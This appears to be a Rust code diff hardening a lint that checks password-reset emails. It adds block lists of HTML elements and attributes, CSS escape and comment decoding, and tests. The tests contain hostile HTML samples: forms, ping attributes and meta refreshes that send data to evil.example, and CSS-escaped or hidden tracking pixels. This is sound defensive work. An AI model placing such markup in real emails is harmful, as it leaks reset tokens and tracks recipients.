@@ -43,8 +43,45 @@ const FETCHED_ATTRIBUTES: &[&str] = &[
     "imagesrcset",
 ];
 
-/// Elements a mail client fetches through their `href`.
+/// Elements a mail client fetches through their `href` (names compared in
+/// lower case: html5ever keeps SVG's camel case).
 const FETCHED_BY_HREF: &[&str] = &["link", "image", "use", "feimage"];
+
+/// Elements a reset email may not contain: forms (one click posts what
+/// they hold anywhere), frames, plugins, scripts, `<base>` / `<meta>`
+/// (redirects), SVG and MathML (their own URL attributes), and elements
+/// whose content mail clients parse differently from the lint (`<noscript>`
+/// is markup with scripting off, raw text with it on).
+const REFUSED_ELEMENTS: &[&str] = &[
+    "noscript",
+    "script",
+    "iframe",
+    "frame",
+    "frameset",
+    "object",
+    "embed",
+    "applet",
+    "form",
+    "input",
+    "textarea",
+    "select",
+    "option",
+    "button",
+    "base",
+    "meta",
+    "svg",
+    "math",
+    "xmp",
+    "plaintext",
+    "noembed",
+    "noframes",
+    "portal",
+    "video",
+    "audio",
+];
+
+/// Attributes that send a URL or load a document by themselves.
+const REFUSED_ATTRIBUTES: &[&str] = &["srcdoc", "ping", "formaction", "action", "http-equiv"];
 
 /// Checks that the token of `a` (rendered with links `links_a`) appears in
 /// no other place than those links, by comparing with `b`, the same email
@@ -83,6 +120,25 @@ pub(super) fn check_confined(
     Ok(())
 }
 
+/// Both checks on one email rendered twice (see the module docs): no
+/// remote resources, and the token only in its links. Returns `(part, reason)`.
+pub(super) fn check_rendered(
+    a: &MailContent,
+    b: &MailContent,
+    links_a: &[&str],
+    links_b: &[&str],
+    link_page: &str,
+) -> Result<(), (&'static str, String)> {
+    check_no_remote_resources(&a.html).map_err(|reason| ("html", reason))?;
+    check_confined(a, b, links_a, links_b, link_page)
+}
+
+/// The reset page a token may be carried to, for messages: origin and path.
+pub(crate) fn link_page(links: &crate::link::LinkBuilder) -> String {
+    let target = links.target();
+    format!("{}{}", target.origin().ascii_serialization(), target.path())
+}
+
 /// Refuses remote resources in an HTML body: what a mail client would
 /// fetch by itself (images, stylesheets, fonts, frames, scripts).
 pub(super) fn check_no_remote_resources(html: &str) -> Result<(), String> {
@@ -90,8 +146,22 @@ pub(super) fn check_no_remote_resources(html: &str) -> Result<(), String> {
     for node in document.tree.root().descendants() {
         match node.value() {
             Node::Element(el) => {
-                let name = el.name();
+                let name = el.name().to_ascii_lowercase();
+                let name = name.as_str();
+                if REFUSED_ELEMENTS.contains(&name) {
+                    return Err(format!(
+                        "uses a <{name}>; reset emails may not contain forms, frames, scripts, \
+                         plugins, <base>, <meta>, SVG or <noscript>"
+                    ));
+                }
                 for (attr, value) in el.attrs() {
+                    let attr_lower = attr.to_ascii_lowercase();
+                    if REFUSED_ATTRIBUTES.contains(&attr_lower.as_str()) {
+                        return Err(format!(
+                            "uses the `{attr}` attribute (on a <{name}>), which sends or loads a URL \
+                             by itself; reset emails may not"
+                        ));
+                    }
                     let fetched = FETCHED_ATTRIBUTES.contains(&attr)
                         || (attr == "href" && FETCHED_BY_HREF.contains(&name));
                     if fetched && is_remote(attr, value) {
@@ -108,6 +178,16 @@ pub(super) fn check_no_remote_resources(html: &str) -> Result<(), String> {
                              <{name}>); reset emails may not load anything from the network"
                         ));
                     }
+                }
+            }
+            Node::Comment(comment) => {
+                let text = comment.trim_start();
+                if text.starts_with("[if") || text.starts_with("[endif") || text.starts_with("<![endif") {
+                    return Err(
+                        "uses a conditional comment (`<!--[if …]>`), whose content some mail \
+                                clients show as markup; reset emails may not"
+                            .into(),
+                    );
                 }
             }
             Node::Text(text) => {
@@ -156,7 +236,7 @@ fn is_srcset_descriptor(word: &str) -> bool {
 /// Whether CSS fetches something: `@import`, or a `url(...)` that is not
 /// `data:` / `cid:` / a fragment.
 fn css_fetches(css: &str) -> bool {
-    let compact: String = css
+    let compact: String = css_unescape(&strip_css_comments(css))
         .chars()
         .filter(|c| !c.is_whitespace())
         .flat_map(char::to_lowercase)
@@ -168,6 +248,46 @@ fn css_fetches(css: &str) -> bool {
         let rest = compact[i + m.len()..].trim_start_matches(['"', '\'']);
         !(rest.starts_with("data:") || rest.starts_with("cid:") || rest.starts_with('#'))
     }) || compact.contains("image-set(")
+}
+
+/// CSS without its `/* comments */`.
+fn strip_css_comments(css: &str) -> String {
+    let mut out = String::with_capacity(css.len());
+    let mut rest = css;
+    while let Some(start) = rest.find("/*") {
+        out.push_str(&rest[..start]);
+        rest = rest[start + 2..]
+            .find("*/")
+            .map_or("", |end| &rest[start + 2 + end + 2..]);
+    }
+    out.push_str(rest);
+    out
+}
+
+/// CSS with its escapes decoded: `\75 rl(` is `url(`, `\@` is `@`.
+fn css_unescape(css: &str) -> String {
+    let mut out = String::with_capacity(css.len());
+    let mut chars = css.chars().peekable();
+    while let Some(c) = chars.next() {
+        if c != '\\' {
+            out.push(c);
+            continue;
+        }
+        let mut hex = String::new();
+        while hex.len() < 6 && chars.peek().is_some_and(char::is_ascii_hexdigit) {
+            hex.extend(chars.next());
+        }
+        if hex.is_empty() {
+            out.extend(chars.next());
+        } else {
+            if chars.peek().is_some_and(|c| c.is_whitespace()) {
+                chars.next();
+            }
+            let code = u32::from_str_radix(&hex, 16).unwrap_or(0xFFFD);
+            out.push(char::from_u32(code).unwrap_or('\u{FFFD}'));
+        }
+    }
+    out
 }
 
 /// Names a URL by its origin, never by its query (which may hold a token).
@@ -223,9 +343,16 @@ fn html_places(html: &str, links: &[&str]) -> Places {
                     .parent()
                     .and_then(|p| p.value().as_element().map(|e| e.name().to_owned()))
                     .unwrap_or_else(|| "document".into());
+                // The link's own text, inside the <a> it is the href of.
+                let own_anchor = node
+                    .ancestors()
+                    .filter_map(|a| a.value().as_element())
+                    .find(|e| e.name() == "a")
+                    .and_then(|a| a.attr("href"))
+                    .is_some_and(|href| href.trim() == text.trim());
                 let content = match allowed(text) {
-                    Some(k) => format!("\u{0}link{k}"),
-                    None => text.to_string(),
+                    Some(k) if own_anchor => format!("\u{0}link{k}"),
+                    _ => text.to_string(),
                 };
                 items.push((format!("the text of a <{parent}>"), content));
             }
@@ -307,6 +434,10 @@ mod tests {
             ("<p>Your link: LINK</p>", "text of a <p>"),
             ("<!-- LINK -->", "an HTML comment"),
             ("<p title=\"LINK\">x</p>", "`title` attribute of a <p>"),
+            // The link's exact text outside its own <a> (a form field a
+            // button posts elsewhere, a list option, a plain paragraph).
+            ("<p>LINK</p>", "text of a <p>"),
+            ("<div><i>LINK</i></div>", "text of a <i>"),
         ] {
             let (part, reason) = check(&format!("<a href=\"LINK\">Reset</a>{html}")).unwrap_err();
             assert_eq!(part, "html");
@@ -345,6 +476,18 @@ mod tests {
             "<p style=\"background: url( 'https://t.example/b.png' )\">x</p>",
             "<style>@import 'https://fonts.example/f.css';</style>",
             "<style>p { background: URL(https://t.example/b) }</style>",
+            // CSS escapes and comments.
+            "<p style=\"background:\\75rl(https://t.example/b.gif)\">x</p>",
+            "<style>@\\69mport 'https://t.example/f.css';</style>",
+            "<style>@imp/**/ort 'https://t.example/f.css';</style>",
+            // Outlook's conditional comments, srcdoc, SVG, noscript, forms, ping.
+            "<!--[if mso]><img src=\"https://t.example/p.gif\"><![endif]-->",
+            "<iframe srcdoc=\"<img src=https://t.example/b.gif>\"></iframe>",
+            "<svg><filter><feImage href=\"https://t.example/x\"/></filter></svg>",
+            "<noscript><img src=\"https://t.example/p.gif\"></noscript>",
+            "<form action=\"https://evil.example/c\"><textarea name=l>x</textarea><button>Go</button></form>",
+            "<a href=\"https://a.example/reset\" ping=\"https://evil.example/p\">x</a>",
+            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
         ] {
             assert!(check_no_remote_resources(html).is_err(), "{html}");
         }
